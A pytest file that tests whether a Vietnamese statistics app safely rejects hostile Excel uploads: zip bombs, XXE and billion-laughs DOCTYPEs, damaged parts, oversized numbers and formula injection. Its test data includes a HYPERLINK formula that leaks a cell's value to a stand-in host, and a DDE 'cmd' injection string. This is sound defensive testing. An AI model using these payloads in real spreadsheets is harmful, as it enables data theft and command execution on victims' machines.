"""Hostile figures templates: bombs, damaged parts, DTDs and oversized numbers end as a Vietnamese
TemplateError or a cell error, never an exception; text written into templates stays text."""

from __future__ import annotations

import io
import math
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from defusedxml import DefusedXmlException
from openpyxl import Workbook, load_workbook

from dean06.accounts.roles import Role
from dean06.core.exceptions import ApplicationError
from dean06.core.models import AuditEntry
from dean06.kpis.entry import MAX_COUNT, check_rows, parse_count
from dean06.kpis.models import ServiceStat
from dean06.kpis.selectors import service_stats_template
from dean06.kpis.services import service_stats_upload
from dean06.kpis.xlsx import (
    COLUMNS,
    FIRST_ROW,
    META_SHEET,
    SHEET,
    TemplateError,
    TemplateMeta,
    TemplateService,
    build_template,
    parse_template,
    write_cell,
)
from dean06.orgs.models import Unit
from dean06.tracking.services import period_unsaved
from tests.ingest.test_hostile_files import (
    LAUGHS,
    MB,
    XXE,
    bomb,
    many_members,
    member,
    padded,
    rebuild,
    with_doctype,
)

META = TemplateMeta("STP", "Sở Tư pháp", "month", 2024, 7, "Tháng 7/2024", "all", "Toàn tỉnh")
SERVICES = [
    TemplateService("DA06-09", 9, "Đăng ký khai sinh"),
    TemplateService("DA06-10", 10, "Đăng ký khai tử"),
]
SHEET_XML = "xl/worksheets/sheet1.xml"
META_XML = "xl/worksheets/sheet2.xml"
WORKBOOK_XML = "xl/workbook.xml"
THIRTY_DIGITS = 123456789012345678901234567890


def _template() -> bytes:
    return build_template(META, SERVICES)


def _filled(values: dict[str, object], data: bytes | None = None) -> bytes:
    wb = load_workbook(io.BytesIO(data or _template()))
    ws = wb[SHEET]
    for field, value in values.items():
        ws[f"{COLUMNS[field]}{FIRST_ROW}"] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- what openpyxl itself does --------------------------------------------------------------------


def test_openpyxl_parses_sheets_with_defusedxml():
    """openpyxl switches to defusedxml when it is installed: a sheet declaring entities is refused
    by the parser even without our own check in front of it."""
    assert openpyxl.DEFUSEDXML is True
    data = _template()
    hostile = rebuild(data, replace={SHEET_XML: with_doctype(member(data, SHEET_XML), LAUGHS)})
    with pytest.raises(ValueError, match="Unable to read workbook") as info:
        load_workbook(io.BytesIO(hostile))
    assert isinstance(info.value.__cause__ or info.value.__context__, DefusedXmlException)


# --- damaged and hostile packages -----------------------------------------------------------------


def test_a_1_gib_bomb_is_refused_before_openpyxl_opens_it(monkeypatch):
    data = bomb(_template(), SHEET_XML, 1024 * MB)
    assert len(data) < 2 * MB
    monkeypatch.setattr(
        "dean06.kpis.xlsx.load_workbook", lambda *a, **k: pytest.fail("openpyxl opened it")
    )
    with pytest.raises(TemplateError) as info:
        parse_template(data)
    assert str(info.value).startswith("Tệp tải lên quá lớn khi giải nén: phần " + SHEET_XML)


def test_templates_are_held_to_their_own_smaller_xml_limit(monkeypatch):
    data = _template()
    grown = rebuild(data, replace={SHEET_XML: padded(member(data, SHEET_XML), 6 * MB)})
    with pytest.raises(TemplateError, match="Nội dung XML của tệp tải lên quá lớn"):
        parse_template(grown)
    monkeypatch.setenv("DEAN06_MAX_FIGURES_XML_MB", "8")
    assert parse_template(grown).unit_key == "STP"


def test_a_template_with_100000_members_is_refused():
    with pytest.raises(TemplateError, match="quá nhiều thành phần"):
        parse_template(many_members(_template()))


@pytest.mark.parametrize("name", [SHEET_XML, WORKBOOK_XML, META_XML])
def test_a_truncated_part_is_a_message(name):
    data = _template()
    xml = member(data, name)
    damaged = rebuild(data, replace={name: xml[: len(xml) // 2]})
    with pytest.raises(TemplateError, match=r"không phải là tệp Excel \(\.xlsx\) đọc được"):
        parse_template(damaged)


def test_a_truncated_file_is_a_message():
    data = _template()
    with pytest.raises(TemplateError):
        parse_template(data[: len(data) // 2])
    with pytest.raises(TemplateError):
        parse_template(data[: len(data) - 10])


@pytest.mark.parametrize("name", [SHEET_XML, WORKBOOK_XML])
@pytest.mark.parametrize("entity", [XXE, LAUGHS], ids=["external", "billion-laughs"])
def test_a_doctype_is_refused(name, entity):
    data = _template()
    hostile = rebuild(data, replace={name: with_doctype(member(data, name), entity)})
    with pytest.raises(TemplateError, match="DOCTYPE"):
        parse_template(hostile)


def test_a_merged_range_over_the_whole_sheet_is_refused():
    wb = load_workbook(io.BytesIO(_template()))
    wb[SHEET].merge_cells("P1:Q2")
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    xml = member(data, SHEET_XML)
    hostile = rebuild(
        data, replace={SHEET_XML: xml.replace(b'ref="P1:Q2"', b'ref="A1:XFD1048576"')}
    )
    with pytest.raises(TemplateError, match="ô gộp"):
        parse_template(hostile)


@pytest.mark.parametrize(
    ("key", "value"),
    [("period_kind", "tuần"), ("period_year", 10**30), ("period_number", 13)],
)
def test_a_hand_edited_hidden_sheet_is_a_message(key, value):
    wb = load_workbook(io.BytesIO(_template()))
    meta = wb[META_SHEET]
    row = next(r for r in range(1, 10) if meta[f"A{r}"].value == key)
    meta[f"B{row}"] = value
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(TemplateError, match="thiếu thông tin đơn vị hoặc kỳ báo cáo"):
        parse_template(out.getvalue())


# --- numbers the database cannot hold -------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        THIRTY_DIGITS,
        str(THIRTY_DIGITS),
        "123.456.789.012.345.678.901.234.567.890",
        MAX_COUNT + 1,
        float(MAX_COUNT + 1),
        Decimal("1E+999999999"),
        1e300,
    ],
)
def test_counts_past_the_database_integer_are_a_cell_error(raw):
    assert parse_count(raw) == (None, "Số quá lớn (tối đa 2.147.483.647).")


@pytest.mark.parametrize("raw", [math.inf, -math.inf, math.nan, Decimal("NaN"), Decimal("-Inf")])
def test_non_finite_values_are_a_cell_error(raw):
    value, error = parse_count(raw)
    assert value is None and error


def test_the_largest_count_still_fits():
    assert parse_count(MAX_COUNT) == (MAX_COUNT, None)
    assert parse_count("2.147.483.647") == (MAX_COUNT, None)
    assert parse_count("9" * 5000) == (None, f"«{'9' * 30}» không phải là số.")


def test_a_30_digit_cell_reads_back_and_fails_its_check():
    parsed = parse_template(
        _filled({"online_citizens": THIRTY_DIGITS, "total_received": THIRTY_DIGITS})
    )
    row = check_rows(parsed.rows, []).rows[0]
    assert {i.message for i in row.issues} == {
        "Trực tuyến — công dân: Số quá lớn (tối đa 2.147.483.647).",
        "Tổng số tiếp nhận: Số quá lớn (tối đa 2.147.483.647).",
    }


# --- formula injection ----------------------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("https://example.invalid/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


def test_text_that_looks_like_a_formula_stays_text_in_the_template():
    services = [TemplateService(f"DA06-{i:02d}", i, n) for i, n in enumerate(HOSTILE_NAMES, 1)]
    meta = TemplateMeta("=1+1", "=Sở", "month", 2024, 7, "Tháng 7/2024", "all", "")
    data = build_template(meta, services)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    for index, name in enumerate(HOSTILE_NAMES):
        cell = ws[f"C{FIRST_ROW + index}"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert wb[META_SHEET]["B2"].value == "=1+1" and wb[META_SHEET]["B2"].data_type == "s"
    # The only formulas in the file are the share column's, one per service.
    formulas = re.findall(rb"<f>(.*?)</f>", member(data, SHEET_XML))
    assert len(formulas) == len(services)
    assert all(f.startswith(b"IF(N(H") for f in formulas)
    assert not re.findall(rb"<f>", member(data, META_XML))


def test_write_cell_leaves_ordinary_values_alone():
    ws = Workbook().active
    assert ws is not None
    assert write_cell(ws, "A1", "Đăng ký khai sinh").quotePrefix is False
    assert write_cell(ws, "A2", -5).data_type == "n"
    assert write_cell(ws, "A3", None).value is None


# --- through the service --------------------------------------------------------------------------


@pytest.fixture
def stp(reference):
    return Unit.objects.get(key="STP")


def test_upload_of_a_30_digit_figure_saves_nothing(stp, make_user):
    officer = make_user(Role.UNIT_OFFICER, unit=stp)
    period = period_unsaved("month", 2024, 7)
    template = service_stats_template(officer, stp, period, "all")
    filled = _filled({"online_citizens": 5, "total_received": THIRTY_DIGITS}, template)
    result = service_stats_upload(unit=stp, period=period, data=filled, by=officer)
    assert not result.outcome.saved
    assert any("Số quá lớn" in i.message for i in result.outcome.blocking)
    assert ServiceStat.objects.count() == 0
    assert not AuditEntry.objects.filter(action__startswith="kpis.stat").exists()


def test_upload_of_a_bomb_is_an_application_error(stp, make_user):
    officer = make_user(Role.UNIT_OFFICER, unit=stp)
    period = period_unsaved("month", 2024, 7)
    template = service_stats_template(officer, stp, period, "all")
    with pytest.raises(ApplicationError, match="quá lớn khi giải nén"):
        service_stats_upload(
            unit=stp, period=period, data=bomb(template, SHEET_XML, 400 * MB), by=officer
        )
    assert ServiceStat.objects.count() == 0


def test_the_sheet_names_in_the_package_are_the_ones_assumed_here():
    names = zipfile.ZipFile(io.BytesIO(_template())).namelist()
    assert {SHEET_XML, META_XML, WORKBOOK_XML} <= set(names)
